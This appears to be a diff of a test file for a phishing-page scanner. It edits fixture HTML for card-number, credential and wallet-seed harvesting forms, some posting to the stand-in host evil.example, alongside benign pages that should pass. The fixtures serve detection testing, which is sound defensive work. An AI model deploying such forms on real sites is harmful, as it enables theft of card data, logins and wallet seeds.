@@ -28,7 +28,7 @@ const phishing: [string, string, string][] = [
   [
     'card fields',
     'credential_form',
-    '<form action="https://evil.example"><label>Card number</label><input name=cc><input name=cvv></form>',
+    '<form action="https://evil.example"><label>Card number</label><input><input name=cvv></form>',
   ],
   [
     'one-time code',
@@ -120,7 +120,7 @@ const phishing: [string, string, string][] = [
   [
     'twelve fields',
     'wallet_seed',
-    `<h2>Wallet recovery</h2>${Array.from({ length: 12 }, (_, n) => `<input placeholder="Seed word ${n + 1}" name="seed words ${n}">`).join('')}`,
+    `<h2>Wallet recovery</h2>${'<input name="seed word">'.repeat(12)}`,
   ],
   [
     'connect a wallet',
@@ -158,8 +158,8 @@ const honest: [string, string][] = [
   ],
   [
     'an API key field',
-    `<title>Google Gemini chat</title><label>API key</label><input type=password><p>Sign in to get one</p>
-     ${script("fetch('https://generativelanguage.googleapis.com/v1/models', { method: 'POST' })")}`,
+    `<title>Google Gemini chat</title><label>API key</label><input type=password><p>Sign in</p>
+     ${script("fetch('https://generativelanguage.googleapis.com/v1', { method: 'POST' })")}`,
   ],
   [
     'a token behind its field',
@@ -169,7 +169,8 @@ const honest: [string, string][] = [
     'a page that teaches seed phrases',
     `<h1>How BIP39 works</h1><p>Never type your seed phrase into a website.</p>
      <p>A wallet is restored from twelve words.</p><button>Make up words</button>
-     <textarea readonly>abandon ability able</textarea><label>Mnemonic to check</label><textarea></textarea>`,
+     <textarea readonly>abandon ability able</textarea>
+     <label>Mnemonic to check</label><textarea></textarea>`,
   ],
   [
     'a bank game',
@@ -177,7 +178,8 @@ const honest: [string, string][] = [
   ],
   [
     'a game with profiles',
-    `<title>Apple Catcher</title><h1>Apple Catcher</h1><canvas></canvas><h2>Log in</h2><form>${login}</form>`,
+    `<title>Apple Catcher</title><h1>Apple Catcher</h1><canvas></canvas>
+     <h2>Log in</h2><form>${login}</form>`,
   ],
   [
     'a card game',
@@ -204,7 +206,8 @@ test.each(honest)('lets pass: %s', (_, html) => {
 })
 
 test('names the line of the form and of the field', () => {
-  const html = `<title>PayPal</title>\n<p>Log in</p>\n<form\n action="https://evil.example">\n${login}\n</form>`
+  const form = `<form\n action="https://evil.example">\n${login}\n</form>`
+  const html = `<title>PayPal</title>\n<p>Log in</p>\n${form}`
   const found = scan(html).findings.map(({ code, line }) => [code, line])
   expect(found).toEqual([
     ['phish.credential_form', 3],
